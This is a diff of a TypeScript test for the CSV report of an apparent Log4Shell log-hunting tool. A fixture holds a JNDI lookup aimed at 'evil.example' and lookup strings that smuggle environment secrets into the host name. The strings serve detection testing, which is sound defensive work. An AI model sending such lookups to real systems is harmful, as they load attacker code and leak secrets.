@@ -1,6 +1,14 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { anyFinding, anyGap, documentOf, sampleComponents, scanHeader } from '../../../test/kit/generated-results.ts'
+import {
+  anyFinding,
+  anyGap,
+  documentOf,
+  huntHeader,
+  sampleAttacks,
+  sampleComponents,
+  scanHeader,
+} from '../../../test/kit/generated-results.ts'
 import type { Finding, Gap } from '../../core/index.ts'
 import { csv } from './csv.ts'
 
@@ -67,9 +75,47 @@ test('a component is one row, with its advisories in a column for each status', 
   expect(cell('unknown')).toBe('')
 })
 
+test('an attack is one row, with what it asks for in parts', () => {
+  const [sample] = sampleAttacks(1)
+  const finding: Finding = {
+    ...sample!,
+    at: { source: '/var/log/a.log', line: 12, byteOffset: 700 },
+    from: '203.0.113.7',
+    verdict: 'fires',
+    firesOn: ['C'],
+    needsJdk: null,
+    lookup: {
+      ...sample!.lookup,
+      meaning: 'jndi:ldap://evil.example:1389/a',
+      scheme: 'ldap',
+      host: 'evil.example',
+      port: 1389,
+      path: 'a',
+    },
+    leaks: [
+      { read: 'env:SECRET', into: 'ldap://${env:SECRET}.evil.example', secret: true },
+      { read: 'env:USER', into: 'ldap://${env:USER}.evil.example', secret: false },
+    ],
+  }
+  const [head = [], row = []] = records(documentOf(csv, [finding], [], { header: huntHeader }))
+  const cell = (name: string): string | undefined => row[head.indexOf(name)]
+
+  expect(head.slice(0, 7)).toEqual(['kind', 'log', 'line', 'byte offset', 'when', 'from', 'result'])
+  expect([cell('log'), cell('line'), cell('from'), cell('result')]).toEqual([
+    '/var/log/a.log',
+    '12',
+    '203.0.113.7',
+    'fires',
+  ])
+  expect([cell('host'), cell('port'), cell('lookup path')]).toEqual(['evil.example', '1389', 'a'])
+  expect(cell('releases')).toBe('Log4j 2.13.0 to 2.14.1')
+  expect(cell('rotate')).toBe('env:SECRET')
+})
+
 test.each([
   ['probe', 'url'],
   ['scan', 'path'],
+  ['hunt', 'log'],
 ] as const)('a gap of a %s has its place in the column %s', (verb, column) => {
   const gap: Gap = { at: 'somewhere', because: 'timed-out', detail: '' }
   const [head = [], row = []] = records(documentOf(csv, [], [gap], { header: { ...scanHeader, verb } }))
